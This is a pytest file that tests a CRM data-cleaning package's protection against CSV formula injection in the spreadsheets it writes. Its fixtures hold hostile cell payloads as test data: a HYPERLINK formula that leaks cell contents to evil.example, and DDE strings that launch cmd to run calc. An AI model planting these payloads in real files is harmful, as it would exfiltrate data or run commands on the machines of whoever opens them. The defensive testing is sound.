"""CSV injection (OWASP): no file we write hands a spreadsheet a formula to run.

Issue 10, "Outputs": queue.csv wrote ``=HYPERLINK(...)``, ``+cmd|...`` and ``@SUM(...)`` unescaped, and
Excel runs them. Files we compose (queue, health, pairs, clusters, the enrich queue) now write such cells
as text; cleaned.csv keeps the input's own cells byte for byte and never gains a formula.
"""

from __future__ import annotations

import csv
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from crm_hygiene.csvio import neutralize, read_report, restore, starts_formula
from crm_hygiene.csvio.formula import FORMULA_TRIGGERS
from crm_hygiene.enrich.feedback import read_reviewed
from crm_hygiene.models.change import ProposedChange
from crm_hygiene.models.record import Record
from crm_hygiene.policy.decide import decide
from crm_hygiene.services.dedup.export import dedupe_file
from crm_hygiene.services.scan.export import scan_export
from crm_hygiene.services.scanned import ExtensionResult, ScannedRecord
from crm_hygiene.standard.loader import default_standard

AS_OF = datetime(2026, 11, 23, tzinfo=UTC)
HEADER = ["Record ID", "First Name", "Last Name", "Email", "Phone Number", "Company Name", "Country/Region",
          "Contact owner", "Lifecycle Stage", "Create Date", "Last Activity Date"]  # fmt: skip
CLEAN = ["1", "Jane", "Doe", "jane@acme.com", "+14158672671", "Acme Inc.", "US", "Jane Cooper", "Lead",
         "2024-01-17 14:55", "2026-10-01 10:00"]  # fmt: skip
# The payloads of the report, and the two whitespace triggers
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
DDE = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
HOSTILE = {
    "Email": HYPERLINK,
    "Phone Number": DDE,
    "Country/Region": SUM,
    "First Name": MINUS,
    "Last Name": "\t=1+1",
    "Company Name": "\r=1+1",
}


def raw_cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8-sig") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def runs_as_formula(cell: str) -> bool:
    return cell[:1] in FORMULA_TRIGGERS


def hostile_export(tmp_path: Path) -> Path:
    rows = [HEADER, CLEAN, [HOSTILE.get(h, c) for h, c in zip(HEADER, CLEAN, strict=True)]]
    rows[2][0] = "=2+5"  # the record id too: it lands in every output
    path = tmp_path / "contacts.csv"
    with path.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(rows)
    return path


def test_queue_and_health_csv_write_formulas_as_text(tmp_path: Path) -> None:
    # Given an export whose values are the report's formulas
    src = hostile_export(tmp_path)
    # When it is scanned
    scan_export(src, tmp_path / "out", as_of=AS_OF)
    # Then no cell of queue.csv or health.csv starts a formula
    for name in ("queue.csv", "health.csv"):
        cells = raw_cells(tmp_path / "out" / name)
        assert [c for c in cells if runs_as_formula(c)] == [], name
    queue = raw_cells(tmp_path / "out" / "queue.csv")
    for payload in (HYPERLINK, DDE, SUM):
        assert "'" + payload in queue  # written as text: a spreadsheet shows it, never runs it
    # And reading the queue back gives the values as they were
    rows = read_report(tmp_path / "out" / "queue.csv")
    assert {r["current_value"] for r in rows if r["record_id"] == "=2+5"} >= {HYPERLINK, DDE, SUM}


def test_cleaned_csv_keeps_the_input_cells_byte_for_byte(tmp_path: Path) -> None:
    src = hostile_export(tmp_path)
    scan_export(src, tmp_path / "out", as_of=AS_OF)
    # the input's own cells are the owner's data: given back exactly, not rewritten with quotes
    assert (tmp_path / "out" / "cleaned.csv").read_bytes() == src.read_bytes()


def test_a_carriage_return_inside_a_cell_cannot_start_a_row(tmp_path: Path) -> None:
    # Given an LF export whose quoted cell hides a CR before a formula (a new row, to any CSV reader,
    # if the cell were written back without its quotes)
    src = tmp_path / "contacts.csv"
    lines = [",".join(HEADER), ",".join(CLEAN)]
    lines.append(",".join(["2", '"Ann\r=HYPERLINK(""http://evil.example"")"', *CLEAN[2:]]))
    src.write_bytes(("\n".join(lines) + "\n").encode())
    scan_export(src, tmp_path / "out", as_of=AS_OF)
    # Then cleaned.csv is the input, byte for byte, and the queue keeps the value inside one cell
    assert (tmp_path / "out" / "cleaned.csv").read_bytes() == src.read_bytes()
    for name in ("queue.csv", "health.csv"):
        assert [c for c in raw_cells(tmp_path / "out" / name) if runs_as_formula(c)] == [], name
    names = {
        r["current_value"] for r in read_report(tmp_path / "out" / "queue.csv") if r["field"] == "first_name"
    }
    assert names == {'Ann\r=HYPERLINK("http://evil.example")'}


class _FormulaFixer:
    """A scan extension that (wrongly) proposes a formula as an automatic change, bypassing the policy."""

    name = "formula"

    def on_record(self, record: Record, scanned: ScannedRecord) -> None:
        change = ProposedChange(
            object_type="contact", record_id=record.record_id, field="company", old_value=record.get("company"),
            new_value=HYPERLINK, source="test", evidence="", confidence=1.0, kind="enrich",
        )  # fmt: skip
        scanned.auto_changes.append(change)

    def finish(self) -> ExtensionResult:
        return ExtensionResult()


def test_no_applied_value_writes_a_formula_into_cleaned_csv(tmp_path: Path) -> None:
    src = hostile_export(tmp_path)
    result = scan_export(src, tmp_path / "out", as_of=AS_OF, extensions=[_FormulaFixer()])
    with (tmp_path / "out" / "cleaned.csv").open(newline="") as fh:
        companies = [r["Company Name"] for r in csv.DictReader(fh)]
    assert companies == ["Acme Inc.", "\r=1+1"]  # unchanged: the formula was not applied
    assert result.summary["cleaned"] == {"rows": 2, "cells_changed": 0}  # type: ignore[comparison-overlap]


@pytest.mark.parametrize(
    ("value", "decision"),
    [
        (HYPERLINK, "blocked"),
        (DDE, "blocked"),
        (SUM, "blocked"),
        ("\t=1", "blocked"),
        ("-1+cmd|' /C calc'!A0", "blocked"),
        ("+14155552671", "auto"),  # E.164: a signed number is a value
        ("Acme", "auto"),
    ],
)
def test_the_policy_never_lets_a_formula_apply(value: str, decision: str) -> None:
    change = ProposedChange(
        object_type="contact", record_id="1", field="phone" if value.startswith("+1") else "city",
        old_value="x", new_value=value, source="test", evidence="", confidence=0.99, kind="normalize",
    )  # fmt: skip
    assert decide(change, default_standard()).decision == decision


def test_pairs_and_clusters_csv_write_formulas_as_text(tmp_path: Path) -> None:
    src = tmp_path / "contacts.csv"
    people = [["id", "first_name", "last_name", "email"], ["=1+1", "Ann", "Lee", "ann@x.com"],
              ["@A1", "Ann", "Lee", "ann@x.com"], ["3", "Bob", "Ray", "bob@y.com"]]  # fmt: skip
    with src.open("w", newline="") as fh:
        csv.writer(fh).writerows(people)
    run = dedupe_file(src, tmp_path / "pairs.csv", tmp_path / "clusters.csv", id_column="id")
    assert run.pairs_written == 1
    for name in ("pairs.csv", "clusters.csv"):
        assert [c for c in raw_cells(tmp_path / name) if runs_as_formula(c)] == [], name
    [pair] = read_report(tmp_path / "pairs.csv")
    assert {pair["id_l"], pair["id_r"]} == {"=1+1", "@A1"}


def test_a_reviewed_queue_reads_back_the_values_it_was_written_with(tmp_path: Path) -> None:
    reviewed = tmp_path / "reviewed.csv"
    with reviewed.open("w", newline="") as fh:
        csv.writer(fh).writerows(
            [["record_id", "suggested_value", "status"], ["1", "'+14155552671", "approved"]]
        )
    assert [r["suggested_value"] for r in read_reviewed(reviewed)] == ["+14155552671"]


@given(st.text())
def test_neutralize_is_text_to_a_spreadsheet_and_restore_undoes_it(value: str) -> None:
    written = neutralize(value)
    assert not runs_as_formula(written)
    assert restore(written) == value


@pytest.mark.parametrize(
    ("value", "formula"),
    [
        ("=1+1", True), ("@SUM(A1)", True), ("\t=1", True), ("\r=1", True), (DDE, True), (MINUS, True),
        ("+", True), ("-", True), ("+1 (415) 555-0123", False), ("+14155552671", False), ("-12.50", False),
        ("", False), ("Acme", False), ("a=b", False), (" =1", False),
    ],
)  # fmt: skip
def test_starts_formula(value: str, formula: bool) -> None:
    assert starts_formula(value) is formula


def test_every_csv_writer_of_the_package_goes_through_csvio() -> None:
    # A new output written with csv.writer directly would skip the neutralization: only csvio/write.py
    # holds one (and the sample generator, whose files stand for a CRM's own export).
    root = Path(__file__).parents[3] / "layers/shared/python/crm_hygiene"
    allowed = {root / "csvio/write.py", root / "local/sample.py", root / "local/sample_activity.py"}
    found = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path not in allowed and re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert found == []
